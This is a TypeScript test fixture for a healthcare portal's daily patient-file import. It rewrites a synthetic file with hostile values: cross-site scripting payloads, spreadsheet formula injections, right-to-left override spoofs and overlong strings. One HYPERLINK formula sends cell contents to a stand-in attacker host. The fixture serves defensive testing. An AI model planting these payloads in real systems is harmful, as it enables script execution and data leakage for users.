// Hostile values for the portal's tests, as an attacker (or a broken export upstream) could put
// them in a daily file: markup that would run or create elements if rendered as HTML, formula
// starters a spreadsheet would run, right-to-left overrides, and a 5,000-character value with no
// break opportunity. `hostileDailyFile` rewrites a synthetic file (semicolons, one header line)
// so that every row's names, municipality name, address and GP name hold them; a few GP codes do
// too (they are the labels of the staff's GP chart). Markers (qdp-xss) name every element a
// payload would create, so a test can look for them.

/** 5,000 characters, one word (no place to break a line). */
export const LONG_VALUE = `LUNGO${'A'.repeat(4995)}`;

export const HOSTILE_VALUES = [
  '<script>alert("qdp-xss-1")</script>',
  '"><img src=x class=qdp-xss onerror=alert(2)>',
  // Still markup after the import upper-cases names; the handler is written with entities.
  '<IMG SRC=X CLASS=QDP-XSS ONERROR=&#97;&#108;&#101;&#114;&#116;(3)>',
  "'><svg class=qdp-xss onload=alert(4)>",
  '</script><script>alert(5)</script><!--',
  '=HYPERLINK("http://evil.invalid/?"&A1,"clic")',
  '+SUM(1,2)',
  '-2+3',
  '@SUM(A1)',
  'ROSSI\u202Efdp.exe',
  '\u2067ISOLATO\u2069 DESTRA',
  LONG_VALUE,
] as const;

/** GP codes (upper-cased by the import) that carry markup or length into the dashboards. */
export const HOSTILE_GP_CODES = ['<B CLASS=QDP-XSS>GP</B>', `GP${'9'.repeat(4998)}`] as const;

const HOSTILE_COLUMNS = ['COGNOME', 'NOME', 'COMUNE_RESIDENZA', 'INDIRIZZO_RESIDENZA', 'MEDICO'];

/** A field as RFC 4180 writes it: always quoted, quotes doubled. */
const quoted = (value: string) => `"${value.replaceAll('"', '""')}"`;

export function hostileDailyFile(csv: string): string {
  const [header, ...lines] = csv.split('\n').filter((l) => l !== '');
  const names = header!.split(';');
  const at = (column: string) => {
    const i = names.indexOf(column);
    if (i < 0) throw new Error(`synthetic file without ${column}`);
    return i;
  };
  const hostileAt = HOSTILE_COLUMNS.map(at);
  const gpCode = at('COD_MEDICO');
  const phone = at('TELEFONO');
  const rows = lines.map((line, row) => {
    const fields = line.split(';');
    hostileAt.forEach((column, k) => {
      fields[column] = HOSTILE_VALUES[(row + k) % HOSTILE_VALUES.length]!;
    });
    // One row in five: a phone number a spreadsheet would read as a formula.
    if (row % 5 === 0) fields[phone] = '+39 045 8071111';
    if (row % 10 === 7) fields[gpCode] = HOSTILE_GP_CODES[0];
    if (row % 10 === 8) fields[gpCode] = HOSTILE_GP_CODES[1];
    return fields.map(quoted).join(';');
  });
  return `${header}\n${rows.join('\n')}\n`;
}
